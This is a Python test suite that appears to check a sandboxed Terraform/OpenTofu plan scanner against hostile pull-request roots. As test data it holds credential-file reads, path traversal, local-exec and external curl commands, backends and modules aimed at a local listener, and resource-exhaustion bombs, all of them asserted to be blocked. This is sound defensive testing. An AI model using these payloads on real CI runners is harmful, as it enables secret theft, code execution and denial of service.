"""What a pull request may try with Terraform: each attack goes through the real scanner, and reaches nothing."""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from reviewer.plan.planned import PlannedRoot
from reviewer.process import never
from reviewer.scan.scanner import PlanTools
from reviewer.settings import ScanLimits, plan_program
from tests.hostile.scanning import AS_IT_IS, Bench, running_bench

PROGRAM = plan_program(os.environ)
pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(300),
    pytest.mark.skipif(PROGRAM is None, reason="no Terraform or OpenTofu on this machine (TERRAFORM_PATH, TOFU_PATH)"),
]

LIMITS = ScanLimits(wall_seconds=16, cpu_seconds=16, memory_mb=800, max_file_bytes=1 << 20, max_tree_bytes=64 << 20)
HARMLESS = 'resource "terraform_data" "calm" {\n  input = "calm"\n}\n'
SECRET = "hunter2-of-the-worker"


@pytest.fixture(scope="module", params=["auto", "landlock"])
def bench(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    """A scanner that plans, in namespaces and without; in its worker's environment and folder there is a secret."""
    os.environ["PLUMBRULE_TEST_SECRET"] = SECRET
    folder = tmp_path_factory.mktemp("attacks")
    (folder / "secret.txt").write_text(SECRET)
    with running_bench(folder, LIMITS, request.param, 1, PlanTools(program=PROGRAM)) as bench:
        assert bench.scanner.plans.startswith(("Terraform v1.", "OpenTofu v1."))
        yield bench
    del os.environ["PLUMBRULE_TEST_SECRET"]


def values(root: PlannedRoot) -> dict[str, Any]:
    """The planned attributes by address."""
    assert root.document is not None, root.not_planned
    return {entry["address"]: entry["change"]["after"] for entry in root.document["resource_changes"]}


def data_of(expression: str) -> str:
    return f'resource "terraform_data" "loot" {{\n  input = {expression}\n}}\n'


READS = {
    "file": 'file("/etc/passwd")',
    "dots": 'file("${path.module}/../../../../../../../../etc/passwd")',
    "base64": 'filebase64("/etc/hosts")',
    "digest": 'filesha256("/etc/passwd")',
    "template": 'templatefile("/etc/passwd", {})',
    "environment": 'file("/proc/self/environ")',
    "environment as template": 'templatefile("/proc/self/environ", {})',
    "status": 'filebase64("/proc/self/status")',
    "parent": 'file("/proc/1/environ")',
}


@pytest.mark.parametrize("expression", READS.values(), ids=READS.keys())
def test_no_function_reads_a_file_that_is_not_of_the_root(bench: Bench, expression: str) -> None:
    root = bench.plan({"main.tf": data_of(expression)})
    assert root.document is None
    kinds = ("invalid function argument", "error in function call")
    assert root.not_planned in [f"Terraform stopped at `main.tf` line 2: {kind}." for kind in kinds]


LISTS = {
    "etc": 'fileset("/etc", "pass*")',
    "processes": 'fileset("/proc", "*")',
    "up": 'fileset("../../../..", "**/*.txt")',
}


@pytest.mark.parametrize("expression", LISTS.values(), ids=LISTS.keys())
def test_no_function_lists_a_folder_that_is_not_of_the_root(bench: Bench, expression: str) -> None:
    root = bench.plan({"main.tf": data_of(f"sort({expression})")})
    assert root.document is None or values(root)["terraform_data.loot"]["input"] == []
    assert "passwd" not in json.dumps(root.document)


def test_another_tree_of_the_same_worker_cannot_be_read(bench: Bench) -> None:
    _, tree = bench.unit({"main.tf": f"# {SECRET}\n"})
    for path in (tree / "main.tf", Path("/trees") / tree.name / "main.tf", bench.trees.parent / "secret.txt"):
        root = bench.plan({"main.tf": data_of(f'file("{path}")')})
        assert root.document is None
        assert SECRET not in root.not_planned


def test_a_link_of_the_tree_leads_nowhere(bench: Bench) -> None:
    unit, tree = bench.unit({"main.tf": data_of('file("${path.module}/passwd")'), "passwd": "harmless"})
    (tree / "passwd").unlink()
    (tree / "passwd").symlink_to("/etc/passwd")
    root = bench.scanner.plan(unit, tree, AS_IT_IS, never)
    assert "root:" not in json.dumps(root.document)


def test_errors_of_terraform_are_not_repeated_with_the_values_that_they_quote(bench: Bench) -> None:
    text = f'locals {{\n  key = "{SECRET}"\n}}\nresource "terraform_data" "a" {{\n  input = tonumber(local.key)\n}}\n'
    root = bench.plan({"main.tf": text})
    assert root.not_planned == "Terraform stopped at `main.tf` line 5: invalid function argument."


BACKENDS = {
    "override.tf": 'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:%d/state"\n  }\n}\n',
    "zzz_override.tf": 'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:%d/state"\n  }\n}\n',
    "z.tf.json": '{"terraform": {"backend": {"http": {"address": "http://127.0.0.1:%d/state"}}}}',
    "zzz_override.tf.json": '{"terraform": [{"backend": [{"http": {"address": "http://127.0.0.1:%d/state"}}]}]}',
    "cloud.tf": 'terraform {\n  cloud {\n    hostname     = "127.0.0.1:%d"\n    organization = "evil"\n  }\n}\n',
}
REACHING = {
    "remote.tf": 'data "terraform_remote_state" "other" {\n  backend = "http"\n'
    '  config = {\n    address = "http://127.0.0.1:%d/state"\n  }\n}\n',
    "http.tf": 'data "http" "beacon" {\n  url = "http://127.0.0.1:%d/"\n}\n',
    "external.tf": 'data "external" "run" {\n  program = ["curl", "http://127.0.0.1:%d/"]\n}\n',
    "module.tf": 'module "far" {\n  source = "http://127.0.0.1:%d/module.zip"\n}\n',
    "exec.tf": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
    '    command = "curl http://127.0.0.1:%d/"\n  }\n}\n',
    "provider.tf": 'terraform {\n  required_providers {\n    evil = {\n      source = "127.0.0.1:%d/evil/evil"\n    }\n'
    '  }\n}\nresource "evil_thing" "a" {}\n',
}


@pytest.mark.parametrize("name", {**BACKENDS, **REACHING})
def test_nothing_in_a_root_reaches_the_network(bench: Bench, name: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.3)
        text = {**BACKENDS, **REACHING}[name] % server.getsockname()[1]
        root = bench.plan({"main.tf": HARMLESS, name: text})
        with pytest.raises(TimeoutError):
            server.accept()
    if name in BACKENDS:
        assert values(root)["terraform_data.calm"] == {"input": "calm", "triggers_replace": None}


def test_tests_of_the_repository_are_not_run(bench: Bench) -> None:
    test = 'run "apply" {\n  command = apply\n}\n'
    files = {"main.tf": HARMLESS, "main.tftest.hcl": test, "tests/more.tftest.hcl": test, "a.tfmock.hcl": "x {\n}\n"}
    assert set(values(bench.plan(files))) == {"terraform_data.calm"}


def test_provisioners_and_external_programs_run_nothing(bench: Bench) -> None:
    mark = Path("/tmp") / f"plumbrule-pwned-{os.getpid()}"
    text = (
        'resource "terraform_data" "a" {\n  provisioner "local-exec" {\n    command = "touch %s"\n  }\n}\n'
        'data "external" "b" {\n  program = ["touch", "%s"]\n}\n'
    )
    root = bench.plan({"main.tf": text % (mark, mark)})
    assert "terraform_data.a" in values(root)
    assert not mark.exists()


def test_a_module_that_climbs_out_of_the_repository_is_a_statement(bench: Bench) -> None:
    text = HARMLESS + 'module "up" {\n  source = "../../../../../../etc"\n}\n'
    root = bench.plan({"envs/main.tf": text}, "envs")
    assert set(values(root)) >= {"terraform_data.calm"}
    assert any("up" in entry.what + entry.why for entry in root.statements)
    assert not any(entry.blocking for entry in root.statements)


NAMESAKES = ("evil/aws", "registry.evil.test/hashicorp/aws", "plumbrule/plumbrule", "evil/terraform")


@pytest.mark.parametrize("source", NAMESAKES)
def test_a_provider_with_the_name_of_another_is_answered_by_us_and_known_by_its_code_alone(
    bench: Bench, source: str
) -> None:
    listed = f'terraform {{\n  required_providers {{\n    aws = {{\n      source = "{source}"\n    }}\n  }}\n}}\n'
    root = bench.plan({"main.tf": listed + 'resource "aws_s3_bucket" "b" {\n  oddity = 3\n}\n'})
    assert values(root)["aws_s3_bucket.b"] == {"oddity": 3}


def test_the_built_in_provider_cannot_be_taken_over(bench: Bench) -> None:
    listed = (
        "terraform {\n  required_providers {\n    terraform = {\n"
        '      source = "terraform.io/builtin/evil"\n    }\n  }\n}\n'
    )
    root = bench.plan({"main.tf": listed + HARMLESS})
    assert root.document is None or set(values(root)) == {"terraform_data.calm"}


BOMBS = {
    "count": 'resource "terraform_data" "x" {\n  count = 1000000\n}\n',
    "count of a provider": 'resource "aws_sqs_queue" "x" {\n  count = 20000\n}\n',
    "for_each": 'resource "aws_sqs_queue" "x" {\n  for_each = toset([for n in range(1000) : tostring(n)])\n}\n'
    'resource "aws_sqs_queue" "y" {\n  count = 9000\n}\n',
    "product": "locals {\n  r = range(1000)\n}\n" + data_of("length(setproduct(local.r, local.r, local.r, local.r))"),
    "range": data_of("[for a in range(1000) : [for b in range(1000) : [for c in range(1000) : a]]]"),
    "doubling": "locals {\n  x0 = [1, 1]\n"
    + "".join(f"  x{n} = concat(local.x{n - 1}, local.x{n - 1})\n" for n in range(1, 40))
    + "}\n"
    + data_of("length(local.x39)"),
    "text": 'locals {\n  x0 = "lol"\n'
    + "".join(f'  x{n} = "${{local.x{n - 1}}}${{local.x{n - 1}}}"\n' for n in range(1, 40))
    + "}\n"
    + data_of("length(local.x39)"),
    "brackets": data_of("[" * 3000 + "1" + "]" * 3000),
    "parentheses": data_of("(" * 20000 + "1" + ")" * 20000),
    "blocks": 'resource "terraform_data" "x" {\n' + "a {\n" * 5000 + "}\n" * 5000 + "}\n",
}


@pytest.mark.parametrize("text", BOMBS.values(), ids=BOMBS.keys())
def test_what_grows_without_end_is_stopped_and_told(bench: Bench, text: str) -> None:
    started = time.monotonic()
    root = bench.plan({"main.tf": text})
    assert root.document is None
    assert root.not_planned
    assert time.monotonic() - started < LIMITS.wall_seconds + 5
    assert set(values(bench.plan({"main.tf": HARMLESS}))) == {"terraform_data.calm"}


def test_a_template_that_grows_without_end_is_stopped(bench: Bench) -> None:
    template = "%{ for a in r }%{ for b in r }%{ for c in r }xxxxxxxxxx%{ endfor }%{ endfor }%{ endfor }"
    text = data_of('templatefile("${path.module}/t.tpl", { r = range(1000) })')
    root = bench.plan({"main.tf": text, "t.tpl": template})
    assert root.document is None
    assert root.not_planned


def test_modules_that_call_each_other_are_no_endless_work(bench: Bench) -> None:
    loop = 'module "m" {\n  source = "../%s"\n}\n'
    files = {"main.tf": 'module "a" {\n  source = "./a"\n}\n', "a/main.tf": loop % "b", "b/main.tf": loop % "a"}
    root = bench.plan(files)
    assert root.document is None or not values(root)


def test_modules_that_multiply_are_stopped(bench: Bench) -> None:
    call = 'module "%s" {\n  source = "../m%d"\n  count = 10\n}\n'
    files = {"main.tf": 'module "m" {\n  source = "./m0"\n}\n'}
    files |= {f"m{n}/main.tf": call % ("a", n + 1) + call % ("b", n + 1) for n in range(8)}
    files["m8/main.tf"] = HARMLESS
    root = bench.plan(files)
    assert root.document is None
    assert root.not_planned


def test_no_program_outlives_its_plan(bench: Bench) -> None:
    planning = threading.Thread(target=bench.plan, args=({"main.tf": BOMBS["count"]},))
    planning.start()
    assert _until(_terraforms)
    planning.join()
    assert _until(lambda: not _terraforms())


def _until(holds: Callable[[], object], seconds: float = 10) -> bool:
    deadline = time.monotonic() + seconds
    while not (held := holds()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return bool(held)


def _terraforms() -> list[int]:
    """Terraform's processes that this test run started, or that nobody waits for any more."""
    parents, plans = {}, []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            parents[int(entry.name)] = int((entry / "stat").read_text().rpartition(")")[2].split()[1])
            if b"\0plan\0-json\0" in (entry / "cmdline").read_bytes():
                plans.append(int(entry.name))
        except OSError:
            continue
    return [pid for pid in plans if os.getpid() in _line(pid, parents) or parents.get(pid) == 1]


def _line(pid: int, parents: dict[int, int]) -> list[int]:
    """A process and those above it, up to the first."""
    found = [pid]
    while (pid := parents.get(pid, 0)) > 0:
        found.append(pid)
    return found


PLANTED = "AKIAIOSFODNN7EXAMPLQ"


def test_secrets_do_not_leave_the_sandbox(bench: Bench) -> None:
    text = (
        f'variable "token" {{\n  default   = "{SECRET}"\n  sensitive = true\n}}\n'
        'resource "aws_db_instance" "d" {\n  password = var.token\n  username = "u"\n}\n'
        f'provider "aws" {{\n  access_key = "{PLANTED}"\n}}\n'
        'resource "terraform_data" "copy" {\n  input = "x-${var.token}"\n}\n'
        'output "o" {\n  value     = var.token\n  sensitive = true\n}\n'
    )
    root = bench.plan({"main.tf": text})
    said = json.dumps(root.document) + str(root.findings) + str(root.statements)
    assert "aws_db_instance.d" in values(root)
    assert SECRET not in said
    assert PLANTED not in said
